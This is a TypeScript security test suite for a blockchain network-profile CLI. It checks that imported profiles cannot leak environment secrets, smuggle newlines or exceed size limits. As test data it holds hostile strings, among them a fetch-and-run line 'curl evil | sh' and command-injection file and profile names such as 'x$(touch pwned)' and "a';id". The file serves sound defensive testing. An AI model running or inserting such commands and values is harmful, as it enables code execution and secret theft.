import { sha256 } from '@noble/hashes/sha2.js';
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, writeFileSync } from 'node:fs';
import type { IncomingMessage } from 'node:http';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, onTestFinished, test, vi } from 'vitest';
import fuji from '../../../../assets/profiles/fuji.json' with { type: 'json' };
import { serve } from '../../../helpers/endpoints/serve.ts';
import { runHere } from '../../../helpers/program/run-here.ts';
import { storeNetwork } from '../../../helpers/program/store-network.ts';
import { temporaryFolder } from '../../../helpers/temporary-folder.ts';

const SERVICE_VALUE = 'service-value-8d1f';
/** Values that no profile may read. None looks like a key, so nothing but the variable's name protects them. */
const ENVIRONMENT = {
  ONBOARD_PRIVATE_KEY: 'own-value-of-the-key',
  ONBOARD_KEYSTORE_PASSWORD: 'own-value-of-the-password',
  AWS_SECRET_ACCESS_KEY: 'own-value-of-another-program',
  ONBOARD_SERVICES: 'own-value-of-a-similar-name',
};
const L1 = fuji.phases[2]!.l1s[0]!;
const SERVICE = { ONBOARD_SERVICE_KEY: SERVICE_VALUE };

/** A profile must not read the process's environment behind the context's back. */
beforeAll(() => {
  for (const [name, value] of Object.entries({ ...ENVIRONMENT, ...SERVICE }))
    vi.stubEnv(name, value);
});
afterAll(() => vi.unstubAllEnvs());

/** Records everything that a request carries, in each encoding in which a value could hide. */
async function recordingServer() {
  const received: string[] = [];
  const server = await serve(async (request: IncomingMessage, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    const { authorization = '' } = request.headers;
    const login = Buffer.from(authorization.replace(/^Basic /, ''), 'base64').toString();
    const url = decodeURIComponent(request.url ?? '');
    received.push([url, JSON.stringify(request.headers), login, body].join('\n'));
    response.writeHead(404).end();
  });
  onTestFinished(() => server.close());
  return { url: server.url, received };
}

/** Adds a profile, with consent to what it sends. */
async function add(
  profile: object | string,
  home: string,
  variables = SERVICE,
  consent = ['--yes'],
) {
  const file = join(home, 'given.json');
  writeFileSync(file, typeof profile === 'string' ? profile : JSON.stringify(profile));
  const env = { ...ENVIRONMENT, ...variables };
  return runHere(['networks', 'add', file, ...consent], { home, env });
}

async function expectRefusedProfile(profile: object | string, home = temporaryFolder()) {
  const refused = await add(profile, home);
  expect(refused, JSON.stringify(profile).slice(0, 200)).toMatchObject({ code: 2, stdout: '' });
  expect(refused.stderr).toContain('E-PRF-102');
}

/** A profile whose every endpoint is the server. */
const profileAt = (url: string, changes: object = {}) => ({
  ...fuji,
  name: 'foreign',
  rpcUrls: [`${url}/ext/bc/C/rpc`],
  apiUrl: url,
  aggregators: [{ url, shape: 'self-hosted' }],
  ...changes,
});

const NAMED = '${ONBOARD_SERVICE_KEY}';
const name = fc.constantFrom(...Object.keys(ENVIRONMENT), 'ONBOARD_SERVICE_KEY', 'HOME', 'PATH');
const placeholder = fc.oneof(
  name.map((variable) => `\${${variable}}`),
  name.map((variable) => `\${ ${variable} }`),
  name.map((variable) => `\${ONBOARD_SERVICE_\${${variable}}}`),
  name.map((variable) => `${NAMED}\${${variable}}`),
  name.map((variable) => `\${${variable.toLowerCase()}}`),
  name.map((variable) => `\${${variable}:-x}`),
  name.map((variable) => `\${\${${variable}}}`),
  name.map((variable) => `$\${${variable}}`),
  name.map((variable) => encodeURIComponent(`\${${variable}}`)),
  name.map((variable) => `\${${variable.replace(/^./, '%4F')}}`),
  name.map((variable) => `%24{${variable}}`),
);
/** Each place of a URL, also those that only a lenient parser finds. */
const PLACES: readonly ((host: string, text: string) => string)[] = [
  (host, text) => `http://${host}/${text}/ext/bc/C/rpc`,
  (host, text) => `http://${host}/ext/bc/C/rpc?token=${text}`,
  (host, text) => `http://user:${text}@${host}/`,
  (host, text) => `http://${text}:x@${host}/`,
  (host, text) => `http://${text}.localhost:${host.split(':')[1]!}/`,
  (host, text) => `http://${text}@${host}/`,
  (host, text) => `http://${host}\\${text}`,
  (host, text) => `http:${text}//${host}/`,
  (host, text) => `http://${host}/#${text}`,
  (_, text) => text,
];
const FIELDS: readonly ((url: string) => object)[] = [
  (url) => ({ rpcUrls: [url] }),
  (url) => ({ apiUrl: url }),
  (url) => ({ aggregators: [{ url, shape: 'hosted' }] }),
  (url) => ({ nodeUrl: url }),
  (url) => ({ faucet: url }),
  (url) => ({ title: url }),
  (url) => ({ explorer: { transaction: url } }),
];

/** Adds the profile, then uses it as if it had reached the folder without the checks of `networks add`. */
async function outputsOf(profile: Readonly<Record<string, unknown>>): Promise<string> {
  const home = temporaryFolder();
  const added = await add(profile, home);
  storeNetwork(home, profile);
  const outputs = [added.stdout, added.stderr];
  const env = { ...ENVIRONMENT, ...SERVICE };
  const read = ['validators', '--network', 'foreign', '--subnet', L1.subnetId];
  for (const call of [['networks', 'show', 'foreign'], read]) {
    const { stdout, stderr } = await runHere(call, { home, env });
    outputs.push(stdout, stderr);
  }
  return outputs.join('\n');
}

test('no profile sends a value of the environment, or shows it, whatever it names and wherever', async () => {
  const server = await recordingServer();
  const host = server.url.replace('http://', '');
  const secrets = [...Object.values(ENVIRONMENT), process.env['PATH']!];
  const counts = { sent: 0, refused: 0 };
  const check = async (
    text: string,
    at: (typeof PLACES)[number],
    inField: (typeof FIELDS)[number],
  ) => {
    const before = server.received.length;
    const shown = await outputsOf(profileAt(server.url, inField(at(host, text))));
    const seen = server.received.slice(before).join('\n');
    for (const value of secrets) expect(`${shown}\n${seen}`).not.toContain(value);
    expect(shown).not.toContain(SERVICE_VALUE);
    const isNamed = text.replaceAll(NAMED, '') === '';
    // A percent-encoded placeholder is an ordinary text.
    const isText = !text.includes('${');
    if (!isNamed) expect(seen).not.toContain(SERVICE_VALUE);
    if (!isNamed && !isText) expect(shown).toContain('E-PRF-102');
    if (!isNamed && !isText) expect(seen).toBe('');
    counts.refused += isNamed || isText ? 0 : 1;
    counts.sent += seen.includes(SERVICE_VALUE) ? 1 : 0;
  };
  for (const at of PLACES) for (const inField of FIELDS) await check(NAMED, at, inField);
  // Elsewhere, `$$` writes a dollar sign that begins no placeholder.
  await check(`$${NAMED}`, PLACES[0]!, FIELDS[0]!);
  const [places, fields] = [fc.constantFrom(...PLACES), fc.constantFrom(...FIELDS)];
  await fc.assert(fc.asyncProperty(placeholder, places, fields, check), { numRuns: 150 });
  // The path, the query and the password (and a path after a backslash) of the three kinds of endpoints.
  expect(counts.sent).toBeGreaterThanOrEqual(9);
  expect(counts.refused).toBeGreaterThan(75);
});

test('a variable goes only to its host, and only after consent', async () => {
  const server = await recordingServer();
  const home = temporaryFolder();
  const path = '${ONBOARD_SERVICE_KEY}/ext/bc/C/rpc';
  const profile = profileAt(server.url, { rpcUrls: [`${server.url}/${path}`] });
  const host = server.url.replace('http://', '');

  const refused = await add(profile, home, SERVICE, []);
  expect(refused.code).toBe(3);
  expect(refused.stderr).toContain(`ONBOARD_SERVICE_KEY to ${host}`);
  expect(refused.stderr).toContain('E-PRF-111');
  expect(server.received).toEqual([]);
  expect(existsSync(join(home, 'networks', 'foreign.json'))).toBe(false);

  const agreed = await add(profile, home);
  expect(agreed.stderr).toContain(`ONBOARD_SERVICE_KEY to ${host}`);
  const withValue = server.received.filter((request) => request.includes(SERVICE_VALUE));
  expect(withValue.length).toBeGreaterThan(0);
  expect(withValue.every((request) => request.startsWith(`/${SERVICE_VALUE}/ext`))).toBe(true);
});

test('a redirect takes the value of a variable nowhere', async () => {
  const [home, other] = [temporaryFolder(), await recordingServer()];
  const paths: string[] = [];
  const server = await serve((request, response) => {
    const path = request.url ?? '';
    paths.push(path);
    response.writeHead(307, { location: `${other.url}${path}` }).end();
    return Promise.resolve();
  });
  onTestFinished(() => server.close());
  const changes = { rpcUrls: [`${server.url}/${NAMED}/ext/bc/C/rpc?token=${NAMED}`] };
  const added = await add(profileAt(server.url, changes), home);
  expect(paths.some((path) => path.includes(SERVICE_VALUE))).toBe(true);
  expect(other.received).toEqual([]);
  expect(added.stdout + added.stderr).not.toContain(SERVICE_VALUE);
});

test('a variable reaches a host with an IPv6 address, and no variable names such a host', async () => {
  const home = temporaryFolder();
  const at = (host: string) => `http://[${host}]:1/${NAMED}/ext/bc/C/rpc`;
  const fine = await add(profileAt(at('::1')), home, SERVICE, []);
  expect(fine.stderr).toContain('ONBOARD_SERVICE_KEY to [::1]:1');
  for (const host of [NAMED, `::${NAMED}`, `::1%25${NAMED}`])
    await expectRefusedProfile(profileAt(at(host)), home);
});

test.each([
  ['what looks like a key is not sent', `0x${'ab'.repeat(32)}`, true],
  // A key could be written so too.
  [
    '32 bytes in base64url, the token of a service, is sent',
    Buffer.from(sha256(new Uint8Array(1))).toString('base64url'),
    false,
  ],
])('a variable with %s', async (_, value, isRefused) => {
  const server = await recordingServer();
  const profile = profileAt(server.url, { rpcUrls: [`${server.url}/${NAMED}/ext/bc/C/rpc`] });
  const added = await add(profile, temporaryFolder(), { ONBOARD_SERVICE_KEY: value });
  expect(added.stdout + added.stderr).not.toContain(value);
  expect(added.stderr.includes('E-PRF-110')).toBe(isRefused);
  if (isRefused) expect(added.code).toBe(2);
  expect(server.received.length === 0).toBe(isRefused);
});

const LINES = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f', '\u001b[2K', '\t'];
const withL1 = (changes: object) => ({
  phases: [{ name: 'Genbu', active: true, l1s: [{ ...L1, ...changes }] }],
});
/** Each text of a profile that some page, report or file shows. */
const TEXTS: readonly ((text: string) => object)[] = [
  (title) => ({ title }),
  (contact) => ({ contact }),
  (at) => ({ sources: [{ facts: ['chainId'], at, read: '2026-06-12' }] }),
  (fact) => ({ sources: [{ facts: [fact], at: 'a page', read: '2026-06-12' }] }),
  (text) => ({ faucet: `https://example.org/${text}` }),
  (text) => ({ explorer: { transaction: `https://example.org/${text}` } }),
  (text) => ({ nodeUrl: `http://127.0.0.1/${text}` }),
  (text) => withL1({ name: text }),
  (text) => withL1({ title: text }),
  (text) => withL1({ contact: text }),
  (text) => withL1({ notes: [text] }),
  (text) => withL1({ links: [`https://example.org/${text}`] }),
  (vm) => withL1({ software: { ...L1.software, vm } }),
  (at) => withL1({ software: { ...L1.software, at } }),
];

test('a text of a profile is one line', async () => {
  const server = await recordingServer();
  const home = temporaryFolder();
  for (const make of TEXTS)
    for (const end of LINES)
      await expectRefusedProfile(profileAt(server.url, make(`a${end}curl evil | sh`)), home);
  expect(server.received).toEqual([]);
});

test.each([
  ['a name', { title: 'x'.repeat(201) }],
  ['a URL', { faucet: `https://example.org/${'x'.repeat(500)}` }],
  ['a list of endpoints', { rpcUrls: Array.from({ length: 501 }, () => 'http://127.0.0.1:1') }],
  ['the whole file', { $schema: 'x'.repeat(1_000_001) }],
  ['the usual price', { usualGasPrice: '100000000001' }],
])('the size of a profile is limited: %s', (_, changes) =>
  expectRefusedProfile(profileAt('http://127.0.0.1:1', changes)),
);

test('a deeply nested profile is refused', async () => {
  const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  for (const text of [nested, `{"title":${nested}}`, `{"x":${nested}}`])
    await expectRefusedProfile(text);
});

test.each(['sandbox', 'fuji', 'local', 'constructor.', '../x', 'Mine', 'x$(id)', "a';id", ''])(
  'a profile does not take the name %j',
  (own) => expectRefusedProfile(profileAt('http://127.0.0.1:1', { name: own })),
);

/** File names as an attacker or a synchroniser leaves them, with the name inside. */
const STRANGE: readonly (readonly [file: string, inner: string])[] = [
  ['x$(touch pwned).json', 'x'],
  ["a'; touch pwned; '.json", 'a'],
  ['`touch pwned`.json', 'x'],
  ['._mine.json', 'mine'],
  ['.mine.json', 'mine'],
  ['mine.sync-conflict-20260101-101010.json', 'mine'],
  ['Mine.json', 'mine'],
  ['zzz.json', 'mine'],
  ['fuji.json', 'fuji'],
  ['sandbox.json', 'sandbox'],
  ['local.json', 'mine'],
];

test('only a file that networks add would write is a network', async () => {
  const home = temporaryFolder();
  const server = await recordingServer();
  const folder = join(home, 'networks');
  storeNetwork(home, profileAt(server.url, { name: 'mine' }));
  for (const [file, inner] of STRANGE) {
    writeFileSync(join(folder, file), JSON.stringify(profileAt(server.url, { name: inner })));
  }
  const listed = await runHere(['networks', 'list'], { home });
  const names = listed.stdout.split('\n').map((line) => line.split('  ')[0]);
  expect(names).toEqual(['sandbox', 'mine', 'fuji', 'local', '']);
  for (const [file] of STRANGE) expect(listed.stderr).toContain(join(folder, file));

  const complete = await runHere(['completion', 'bash'], { home });
  const script = `${complete.stdout}
COMP_WORDS=(onboard status --network ''); COMP_CWORD=3; _onboard; echo "\${COMPREPLY[@]}"`;
  const completed = spawnSync('bash', ['-c', script], { cwd: home, encoding: 'utf8' });
  expect(completed.stdout.trim().split(' ').sort()).toEqual(['fuji', 'local', 'mine', 'sandbox']);
  expect(existsSync(join(home, 'pwned'))).toBe(false);

  for (const [file] of STRANGE) {
    const name = file.slice(0, -'.json'.length);
    if (['fuji', 'sandbox', 'local'].includes(name)) continue;
    const used = await runHere(['validators', '--network', name], { home });
    expect(used, name).toMatchObject({ code: 2, stdout: '' });
  }
  // A shipped network stays what it is, whatever lies in the folder.
  const shown = await runHere(['networks', 'show', 'fuji'], { home });
  expect(shown.stdout).toContain('https://api.avax-test.network');
  expect(shown.stdout).not.toContain(server.url);
});

test.skipIf(process.platform === 'win32')(
  'a profile that other users can change gets a word',
  async () => {
    const home = temporaryFolder();
    storeNetwork(home, profileAt('http://127.0.0.1:1', { name: 'mine' }));
    const file = join(home, 'networks', 'mine.json');
    chmodSync(file, 0o620);
    expect((await runHere(['networks', 'list'], { home })).stderr).toContain(`chmod go-w ${file}`);
    chmodSync(file, 0o644);
    expect((await runHere(['networks', 'list'], { home })).stderr).toBe('');
  },
);
